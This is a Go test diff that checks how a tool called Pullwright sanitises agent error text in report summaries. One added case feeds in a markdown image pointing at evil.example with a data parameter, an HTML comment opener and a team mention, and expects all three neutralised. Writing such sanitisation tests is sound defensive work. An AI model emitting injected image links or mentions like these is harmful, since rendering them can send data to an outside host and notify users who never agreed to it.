@@ -29,6 +29,8 @@ func TestActionReportSummary(t *testing.T) {
 		{"out of budget", app.ActionResult{Outcome: "done", TaskID: 7, Issue: 3, PRURL: "https://github.example/o/r/pull/8", Spend: spend, OutOfBudget: "the agent used up its budget (turns: 40 of 40 used)"},
 			"Pullwright: done: task 7 on #3 (12,400 tokens · $0.015), pull request https://github.example/o/r/pull/8, a draft: the agent used up its budget (turns: 40 of 40 used) before the work was done\n"},
 		{"ignored", app.ActionResult{Outcome: "ignored", Why: "not a command"}, "Pullwright: ignored (not a command)\n"},
+		{"failed with the agent's words", app.ActionResult{Outcome: "failed", TaskID: 7, Issue: 3, Error: "the agent said <!-- @org/team ![x](https://evil.example/?d=1)"},
+			"Pullwright: failed: task 7 on #3: the agent said \\<!-- @\u200dorg/team x (image not shown: `https://evil.example/?d=1`)\n"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			dir := t.TempDir()
